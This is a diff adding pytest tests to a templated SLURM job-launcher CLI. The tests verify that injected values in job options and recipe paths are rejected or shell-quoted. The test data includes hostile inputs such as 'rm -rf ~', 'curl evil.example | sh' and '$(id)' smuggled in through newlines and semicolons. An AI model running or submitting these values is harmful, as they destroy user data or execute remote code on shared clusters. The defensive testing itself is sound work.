@@ -10,7 +10,7 @@ import subprocess
 from pathlib import Path
 
 import pytest
-from helpers import MULTINODE, RECIPES, executable
+from helpers import MULTINODE, RECIPES, executable, fail_with
 
 from {{ cookiecutter.package_name }}.cli import main
 from {{ cookiecutter.package_name }}.cluster.launchers import check_launcher
@@ -172,3 +172,32 @@ def test_sbatch_template_signals_requeues_and_runs_like_the_generated_script() -
     assert "\n".join(run_lines('"$RECIPE"')) in template
     assert subprocess.run(["bash", "-n", str(sbatch)]).returncode == 0
 {%- endif %}
+
+
+@pytest.mark.parametrize(
+    ("option", "value"),
+    [
+        ("--job_name", "train\nrm -rf ~"),
+        ("--partition", "gpu\ncurl evil.example | sh"),
+        ("--account", "proj;id"),
+        ("--job_name", "x" * 129),
+        ("--partition", "gpu,"),
+    ],
+)
+@pytest.mark.parametrize("command", ["slurm", "submit"])
+def test_job_options_that_could_break_out_of_a_job_script_are_refused(
+    command: str, option: str, value: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    err = fail_with([command, MULTINODE, option, value, "--time", "1:00:00"], capsys)
+    assert f"{option}=" in err and "is not a SLURM name" in err
+    assert "\n" not in err  # the value is shown with its newline escaped
+    assert capsys.readouterr().out == ""  # no script printed
+
+
+def test_a_recipe_path_with_a_newline_is_refused_and_paths_are_quoted() -> None:
+    recipe = load_recipe(RECIPES / f"{MULTINODE}.yaml")
+    with pytest.raises(RecipeError, match="control characters"):
+        sbatch_script(recipe, "mine.yaml\nid", "1:00:00")
+    script = sbatch_script(recipe, "my recipes/mine $(id).yaml", "1:00:00")
+    quoted = "'my recipes/mine $(id).yaml'"
+    assert quoted in script and "$(id)" not in script.replace(quoted, "")
